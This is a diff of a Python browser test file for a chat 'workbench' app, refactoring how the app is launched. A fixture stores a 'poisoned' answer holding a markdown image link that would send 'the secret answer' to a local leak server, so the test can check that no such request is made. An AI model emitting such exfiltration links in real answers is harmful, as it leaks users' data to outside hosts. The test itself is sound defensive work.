@@ -5,9 +5,6 @@ so silence means nothing was asked for."""
 
 from __future__ import annotations
 
-import os
-import subprocess
-import sys
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -16,8 +13,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.ui.conftest import ROOT
-from tests.ui.test_browser import _wait_until_healthy, free_port, page  # noqa: F401
+from tests.ui.test_browser import page, running_app  # noqa: F401
 from workbench.config import load_settings
 from workbench.storage import Storage
 
@@ -56,25 +52,8 @@ def poisoned_app(tmp_path: Path, leak_server) -> Iterator[tuple[str, int]]:
                         f"Here it is.\n\n![x]({leak_url}/leak.png?d=the+secret+answer)\n\n"
                         f"See [the docs]({leak_url}/docs).")
     storage.close()
-    port = free_port()
-    env = {**os.environ, "WORKBENCH_DATA_DIR": str(settings.data_dir), "WORKBENCH_LLM__BACKEND": "embedded",
-           "WORKBENCH_LLM__OLLAMA_HOST": "http://127.0.0.1:9"}
-    log = (tmp_path / "streamlit.log").open("w")
-    process = subprocess.Popen(
-        [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), "--server.address",
-         "127.0.0.1", "--server.headless", "true", "--browser.gatherUsageStats", "false",
-         "--server.fileWatcherType", "none"], cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
-    url = f"http://127.0.0.1:{port}"
-    try:
-        _wait_until_healthy(url, process, tmp_path / "streamlit.log")
+    with running_app(tmp_path, {"WORKBENCH_DATA_DIR": str(settings.data_dir)}) as url:
         yield url, conversation.id
-    finally:
-        process.terminate()
-        try:
-            process.wait(10)
-        except subprocess.TimeoutExpired:
-            process.kill()
-        log.close()
 
 
 def test_an_image_in_a_stored_answer_makes_no_request(poisoned_app, leak_server, page: Page):  # noqa: F811
